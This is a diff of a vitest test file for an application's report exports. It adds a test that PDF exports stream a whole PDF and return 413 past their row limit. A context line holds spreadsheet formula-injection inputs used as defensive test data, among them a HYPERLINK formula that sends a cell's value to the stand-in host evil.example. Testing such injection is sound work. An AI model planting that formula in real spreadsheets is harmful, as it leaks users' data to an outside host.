@@ -1,3 +1,4 @@
+import fs from 'node:fs';
 import { resolveBackend } from 'deepagents';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -143,6 +144,28 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
     expect(answeredDuring).toBeGreaterThanOrEqual(5);
     await remove('/data/prices.json');
   }, 240_000);
+
+  it.skipIf(!fs.existsSync(process.env.PROCURA_CHROMIUM_PATH ?? '/usr/bin/chromium'))(
+    'a PDF export streams a whole PDF from its own process; a PDF past its row limit gets 413',
+    async () => {
+      const res = await get(exportUrl('/analysis/report.md', 'pdf'));
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toBe('application/pdf');
+      const bytes = Buffer.from(await res.arrayBuffer());
+      expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
+      expect(bytes.subarray(-8).toString()).toContain('%%EOF');
+      const rows = DEFAULT_EXPORT_LIMITS.pdfRows + 1;
+      await write({ '/analysis/long.md': `# 长表\n\n| 行 |\n| --- |\n${'| 1 |\n'.repeat(rows)}` });
+      const long = await get(exportUrl('/analysis/long.md', 'pdf'));
+      expect(long.status).toBe(413);
+      expect(await long.json()).toMatchObject({
+        code: 'export_too_large',
+        rows,
+        max_rows: DEFAULT_EXPORT_LIMITS.pdfRows,
+      });
+    },
+    180_000,
+  );
 
   it('text a spreadsheet would take for a formula is written as plain text', async () => {
     const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
